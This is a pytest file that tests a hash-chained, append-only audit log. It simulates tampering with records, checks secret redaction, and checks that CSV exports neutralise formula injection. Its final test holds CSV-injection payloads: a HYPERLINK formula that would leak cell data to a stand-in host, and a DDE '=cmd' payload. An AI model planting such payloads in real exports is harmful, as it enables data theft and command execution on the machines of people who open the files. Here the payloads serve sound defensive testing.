"""The audit log: append-only, hash-chained; verify finds an edited, deleted or swapped record."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import stat

import pytest

from gpuconsole.core.access.audit import AuditFilter, AuditLog, redact, to_csv, to_json
from tests.helpers import TickingClock


@pytest.fixture
def log(tmp_path):
    audit = AuditLog(tmp_path / "state" / "audit.db", TickingClock())
    for n in range(1, 6):
        audit.append("ada" if n % 2 else "dev", "admin" if n % 2 else "developer", "stop", f"i-{n}",
                     (("region", "us-east-1"),), "ok")
    return audit


def tamper(audit: AuditLog, *sql: str) -> None:
    """Change the file as someone with write access could: around the triggers."""
    conn = sqlite3.connect(audit.path)
    conn.execute("DROP TRIGGER records_no_update")
    conn.execute("DROP TRIGGER records_no_delete")
    for statement in sql:
        conn.execute(statement)
    conn.commit()
    conn.close()


def test_an_intact_log_verifies(log) -> None:
    verdict = log.verify()
    assert verdict.ok and verdict.records == 5
    assert verdict.message == "audit log intact: 5 record(s), chain verified"
    first, second = log.records()[:2]
    assert second.prev_hash == first.hash and first.prev_hash == "0" * 64
    assert first.ts.endswith("Z") and first.ts.startswith("2027-01-15T")


def test_sqlite_refuses_updates_and_deletes(log) -> None:
    conn = sqlite3.connect(log.path)
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        conn.execute("UPDATE records SET result = 'ok' WHERE seq = 2")
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        conn.execute("DELETE FROM records WHERE seq = 2")
    conn.close()


def test_an_edited_field_is_found(log) -> None:
    tamper(log, "UPDATE records SET actor = 'mallory' WHERE seq = 3")
    verdict = log.verify()
    assert not verdict.ok and verdict.bad_seq == 3
    assert verdict.message == "record 3 was edited or moved (its hash does not match)"


def test_an_edited_field_with_a_recomputed_hash_is_found_at_the_next_record(log) -> None:
    from gpuconsole.core.access.audit import record_hash

    r = log.records()[2]
    digest = record_hash(r.seq, r.ts, "mallory", r.role, r.action, r.target, r.params, r.result, r.prev_hash)
    tamper(log, f"UPDATE records SET actor = 'mallory', hash = '{digest}' WHERE seq = 3")
    verdict = log.verify()
    assert not verdict.ok and verdict.bad_seq == 4


def test_a_deleted_record_is_found(log) -> None:
    tamper(log, "DELETE FROM records WHERE seq = 2")
    verdict = log.verify()
    assert not verdict.ok and verdict.bad_seq == 2
    assert verdict.message == "record 2 is missing (deleted) before record 3"


def test_a_deleted_and_renumbered_record_is_found(log) -> None:
    tamper(log, "DELETE FROM records WHERE seq = 2", "UPDATE records SET seq = seq - 1 WHERE seq > 2")
    verdict = log.verify()
    assert not verdict.ok and verdict.bad_seq == 2


def test_records_cut_off_the_end_are_found(log) -> None:
    tamper(log, "DELETE FROM records WHERE seq >= 4")
    verdict = log.verify()
    assert not verdict.ok and verdict.bad_seq == 4
    assert "cut off the end" in verdict.message


def test_two_swapped_records_are_found(log) -> None:
    a, b = log.records()[1:3]
    cols = ("ts", "actor", "role", "action", "target", "params", "result", "prev_hash", "hash")

    def assign(r) -> str:
        return ", ".join(f"{c} = '{getattr(r, c)}'" for c in cols)

    tamper(log, f"UPDATE records SET {assign(b)} WHERE seq = {a.seq}", f"UPDATE records SET {assign(a)} WHERE seq = {b.seq}")
    verdict = log.verify()
    assert not verdict.ok and verdict.bad_seq == 2


def test_secrets_are_redacted() -> None:
    params = redact((("webhook", "https://hooks.example/T0/abc"), ("notify_command", "curl -H 'token: x'"),
                     ("note", "key AKIAABCDEFGHIJKLMNOP used"), ("url", "https://user:pw@host/x"), ("region", "us-east-1")))
    assert params == {"webhook": "***", "notify_command": "***", "note": "key *** used",
                      "url": "https***host/x", "region": "us-east-1"}


def test_filters_and_exports(log) -> None:
    recs = log.records(AuditFilter(actor="dev"))
    assert [r.target for r in recs] == ["i-2", "i-4"]
    assert [r.seq for r in log.records(AuditFilter(target="i-5"))] == [5]
    t3 = log.records()[2].at
    assert [r.seq for r in log.records(AuditFilter(since=t3, until=t3 + 1.5))] == [3, 4]
    assert [r.seq for r in log.records(AuditFilter(action="terminate"))] == []
    csv_text = to_csv(recs)
    assert csv_text.splitlines()[0] == "seq,ts,actor,role,action,target,params,result,prev_hash,hash"
    doc = json.loads(to_json(recs))
    assert doc["schema"] == "gpuconsole.audit/1" and doc["records"][0]["params"] == {"region": "us-east-1"}


def test_the_log_file_is_private(log) -> None:
    assert stat.S_IMODE(log.path.stat().st_mode) == 0o600
    assert stat.S_IMODE(log.path.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(log.head_path.stat().st_mode) == 0o600


# ---------------------------------------------------------------- the head file (without a sink)


def test_a_deleted_head_is_tampering(log) -> None:
    log.head_path.unlink()
    verdict = log.verify()
    assert not verdict.ok and verdict.bad_seq == 5
    assert "head file audit.db.head is missing" in verdict.message


@pytest.mark.parametrize("junk", ["", "garbage\n", "5\n", "five " + "0" * 64 + "\n", "5 xyz\n"])
def test_a_head_holding_junk_is_tampering(log, junk) -> None:
    log.head_path.write_text(junk)
    verdict = log.verify()
    assert not verdict.ok and "does not hold a record number and hash" in verdict.message


def test_an_unreadable_head_is_tampering(log) -> None:
    log.head_path.unlink()
    log.head_path.mkdir()  # unreadable even for root
    verdict = log.verify()
    assert not verdict.ok and "cannot be read" in verdict.message


def test_a_lagging_head_is_tampering(log) -> None:
    third = log.records()[2]
    log.head_path.write_text(f"3 {third.hash}\n")
    verdict = log.verify()
    assert not verdict.ok and verdict.bad_seq == 4
    assert "the head says the log ends at record 3" in verdict.message


def test_a_deleted_database_with_its_head_present_is_not_intact(log) -> None:
    log.path.unlink()
    verdict = log.verify()
    assert not verdict.ok and verdict.bad_seq == 1
    assert "intact" not in verdict.message and "head file says 5 record(s)" in verdict.message


def test_a_deleted_database_fails_the_verify_command(log, monkeypatch, capsys) -> None:
    from gpuconsole.cli.main import main

    monkeypatch.setenv("GPUCONSOLE_AUDIT_DB", str(log.path))
    log.path.unlink()
    assert main(["audit", "verify"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("gpuconsole: audit log TAMPERED: the audit database is missing") and err.count("\n") == 1


def test_a_new_log_without_records_verifies(tmp_path) -> None:
    audit = AuditLog(tmp_path / "state" / "audit.db")
    assert audit.verify().ok  # nothing written yet: no database, no head
    audit.check_writable()
    assert audit.verify().ok  # an empty database and no head: still nothing written


def test_a_target_that_would_be_a_spreadsheet_formula_is_exported_as_text(tmp_path) -> None:
    audit = AuditLog(tmp_path / "state" / "audit.db", TickingClock())
    for target in ('=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "i-0abc"):
        audit.append("bob", "developer", "stop", target, (("note", "=cmd|' /C calc'!A0"),), "ok")
    rows = list(csv.reader(io.StringIO(to_csv(audit.records()), newline="")))[1:]
    targets = [row[5] for row in rows]
    assert targets == ["'" + t for t in ('=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3",
                                           "@SUM(A1)", "\tx", "\r=1")] + ["i-0abc"]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    assert audit.verify().ok  # the log itself keeps what was written; only the export marks it
